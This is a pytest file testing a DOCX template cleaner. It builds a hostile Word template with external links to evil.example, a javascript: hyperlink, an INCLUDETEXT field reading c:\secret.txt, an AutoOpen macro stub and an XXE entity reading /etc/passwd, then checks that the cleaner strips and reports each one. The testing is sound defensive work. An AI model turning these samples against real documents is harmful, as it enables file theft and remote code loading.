"""A hostile template yields a clean document, and says what was left out."""

import re
from pathlib import Path

import docx
import pytest
from msgspec.structs import replace

from converter.writers.docx import write_docx
from converter.writers.docx.template.cleaning import clean
from tests.judges import ooxml
from tests.sample import sample_document, sample_style
from tests.writers.docx.opened import Opened, parts
from tests.writers.docx.template.houses import add, changed, paragraph, run, save

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
PICTURE = (
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="9525" cy="9525"/><wp:docPr id="9" name="x" descr="x"/><a:graphic><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="9" name="x"/>'
    '<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId901"/><a:stretch><a:fillRect/></a:stretch>'
    '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm><a:prstGeom '
    'prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
)
EVIL = {
    "rId901": ("image", "http://evil.example/x.png", "External"),
    "rId902": ("hyperlink", "javascript:alert(1)", "External"),
    "rId903": ("hyperlink", "https://good.example/", "External"),
    "rId904": ("oleObject", "http://evil.example/x.doc", "External"),
    "rId905": ("aFChunk", "chunk.html", "Internal"),
    "rId906": ("attachedTemplate", "http://evil.example/t.dotm", "External"),
}
"""What the main document of the hostile template refers to."""


def relationship(id_: str, kind: str, target: str, mode: str, family: str = OFFICE) -> str:
    return f'<Relationship Id="{id_}" Type="{family}/{kind}" Target="{target}" TargetMode="{mode}"/>'


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Return a template with macros, links, fields and objects that no report may carry."""
    made = docx.Document()
    add(
        made,
        paragraph(run("picture ") + PICTURE),
        paragraph('<w:hyperlink r:id="rId902">' + run("bad link") + "</w:hyperlink>"),
        paragraph('<w:hyperlink r:id="rId903">' + run("good link") + "</w:hyperlink>"),
        paragraph('<w:fldSimple w:instr=" INCLUDETEXT &quot;c:\\secret.txt&quot; ">' + run("included") + "</w:fldSimple>"),
        paragraph(run("object ") + '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                  'Type="Link" ProgID="Word.Document" r:id="rId904"/></w:object></w:r>'),
        '<w:altChunk r:id="rId905"/>',
    )  # fmt: skip
    plain = save(made, tmp_path / "plain.docx")
    links = "".join(relationship(id_, *rest) for id_, rest in EVIL.items())
    links += relationship("rId907", "vbaProject", "vbaProject.bin", "Internal", MICROSOFT)
    settings = '<w:attachedTemplate r:id="rId1"/><w:updateFields w:val="true"/><w:compat>'
    return changed(
        plain,
        tmp_path / "hostile.docm",
        {
            "[Content_Types].xml": (PLAIN_DOCUMENT, MACRO_DOCUMENT),
            "word/_rels/document.xml.rels": ("</Relationships>", f"{links}</Relationships>"),
            "word/settings.xml": ("<w:compat>", settings),
        },
        {
            "word/vbaProject.bin": b"Sub AutoOpen()",
            "word/chunk.html": b"<script>",
            "word/_rels/settings.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                + relationship("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")
                + "</Relationships>"
            ).encode(),
        },
    )


def test_a_hostile_template_yields_a_clean_document_and_says_so(hostile: Path) -> None:
    made = write_docx(sample_document(), replace(sample_style(), word={"template": str(hostile)}))
    everything = b"".join(parts(made.data).values())
    for trace in (b"evil.example", b"javascript:", b"AutoOpen", b"<script>", b"macroEnabled", b"INCLUDETEXT",
                  b"secret", b"updateFields", b"attachedTemplate", b"altChunk", b"OLEObject"):  # fmt: skip
        assert trace not in everything, trace
    assert {notice.code for notice in made.notices} == {"template-macros", "template-unsafe"}
    said = " ".join(notice.text for notice in made.notices)
    for what in ("image to http://evil", "link to javascript:", "oleObject to http://evil", "aFChunk chunk.html",
                 "attachedTemplate to http://evil", 'field INCLUDETEXT "c:\\secret.txt"', "holds macros"):  # fmt: skip
        assert what in said, what


def test_its_harmless_words_stay(hostile: Path) -> None:
    made = write_docx(sample_document(), replace(sample_style(), word={"template": str(hostile)}))
    opened = Opened(made.data)
    words = "".join(opened.values("//w:body//w:t/text()"))
    for kept in ("picture ", "bad link", "good link", "included", "object "):
        assert kept in words
    assert b"https://good.example/" in opened.parts["word/_rels/document.xml.rels"]
    assert len(opened.find("//w:body/w:p[.//w:t='bad link']//w:hyperlink")) == 0


@pytest.mark.parametrize("version", ["Office2007", "Microsoft365"])
def test_the_clean_document_is_valid(hostile: Path, tmp_path: Path, version: ooxml.Version) -> None:
    file = tmp_path / "clean.docx"
    style = replace(sample_style(), word={"template": str(hostile)})
    file.write_bytes(write_docx(sample_document(), style).data)
    assert [str(finding) for finding in ooxml.findings([file], version)[file]] == []


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:\\Users\\Ada\\Normal.dotm",
        "file:///home/ada/house.dotx",
        "Normal.dotm",
        "C:\\Templates\\a.dotx",
    ],
)
def test_the_template_that_word_noted_itself_goes_without_a_word(target: str) -> None:
    cleaned = with_settings(target)
    assert list(cleaned.removed) == []
    assert target.encode() not in b"".join(cleaned.parts.values())


@pytest.mark.parametrize(
    "target", ["http://x.example/t.dotm", "\\\\server\\t.dotm", "file:////server/share/t.dotm"]
)
def test_a_template_that_lies_elsewhere_is_told(target: str) -> None:
    assert list(with_settings(target).removed) == [("word/settings.xml", f"attachedTemplate to {target}")]


def with_settings(target: str):  # type: ignore[no-untyped-def]  # noqa: ANN201 - `Cleaned`, of the module under test
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return clean(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/settings.xml": f'<w:settings xmlns:w="{w}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="a"/>'
            "</w:settings>".encode(),
            "word/_rels/settings.xml.rels": (
                "<Relationships>"
                + relationship("a", "attachedTemplate", target, "External")
                + "</Relationships>"
            ).encode(),
        }
    )


def test_addresses_of_shapes_are_looked_at() -> None:
    shape = '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="{0}"/></w:pict>'
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = shape.format("javascript:x()") + shape.format("https://good.example/")
    cleaned = clean(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": f'<w:d xmlns:w="{w}">{body}</w:d>'.encode()}
    )
    assert list(cleaned.removed) == [("word/document.xml", "link to javascript:x()")]
    assert re.findall(rb'href="([^"]*)"', cleaned.parts["word/document.xml"]) == [b"https://good.example/"]


def test_a_picture_that_lies_inside_loses_only_its_link() -> None:
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    cleaned = clean(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": (
                f'<d xmlns:a="{a}" xmlns:r="{OFFICE}"><drawing><a:blip r:embed="in" r:link="out"/></drawing></d>'
            ).encode(),
            "word/_rels/document.xml.rels": (
                "<Relationships>"
                + relationship("in", "image", "media/x.png", "Internal")
                + relationship("out", "image", "http://x.example/x.png", "External")
                + "</Relationships>"
            ).encode(),
        }
    )
    assert b'r:embed="in"' in cleaned.parts["word/document.xml"]
    assert b"out" not in cleaned.parts["word/document.xml"]


def test_a_part_that_declares_a_document_type_is_refused() -> None:
    declared = b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>'
    with pytest.raises(ValueError, match="declares a document type"):
        clean({"[Content_Types].xml": b"<Types/>", "word/header1.xml": declared})


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def cleaned_part(name: str, xml: str, kind: str = "") -> tuple[bytes, list[str]]:
    """Return a part after cleaning, and what was left out of it."""
    types = f'<Types><Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    result = clean({"[Content_Types].xml": types, name: xml.encode()})
    return result.parts[name], [what for _, what in result.removed]


@pytest.mark.parametrize(
    "attribute", ['src="http://x.example/"', 'o:href="file:///x"', 'o:althref="http://x.example/"']
)
def test_pictures_of_old_shapes_are_not_fetched(attribute: str) -> None:
    shape = f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" {attribute}/>'
    data, removed = cleaned_part("word/document.xml", f'<w:d xmlns:w="{W}">{shape}</w:d>')
    assert b"x.example" not in data.replace(b"xmlns", b"")
    assert len(removed) == 1


def test_a_part_is_known_by_its_type_whatever_it_is_called() -> None:
    field = f'<w:d xmlns:w="{W}"><w:fldSimple w:instr="INCLUDETEXT x"/></w:d>'
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert cleaned_part("word/document.dat", field, kind)[1] == ["field INCLUDETEXT x"]


def test_settings_that_name_other_files_go_wherever_they_stand() -> None:
    inside = '<w:mailMerge/><w:updateFields/><sl:schemaLibrary xmlns:sl="x"/><w:zoom/>'
    data, removed = cleaned_part("word/settings2.xml", f'<w:settings xmlns:w="{W}">{inside}</w:settings>')
    assert removed == ["setting mailMerge", "setting schemaLibrary"]
    assert b"updateFields" not in data
    assert b"zoom" in data


def test_a_linked_picture_in_a_text_box_leaves_the_words_of_the_box() -> None:
    inner = '<w:drawing><a:blip xmlns:a="a" r:link="out"/></w:drawing>'
    box = f"<w:pict><w:txbxContent><w:p><w:r><w:t>Address</w:t>{inner}</w:r></w:p></w:txbxContent></w:pict>"
    result = clean(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": f'<w:d xmlns:w="{W}" xmlns:r="{OFFICE}">{box}</w:d>'.encode(),
            "word/_rels/document.xml.rels": (
                "<Relationships>"
                + relationship("out", "image", "http://x.example/", "External")
                + "</Relationships>"
            ).encode(),
        }
    )
    assert b"Address" in result.parts["word/document.xml"]
    assert b"drawing" not in result.parts["word/document.xml"]
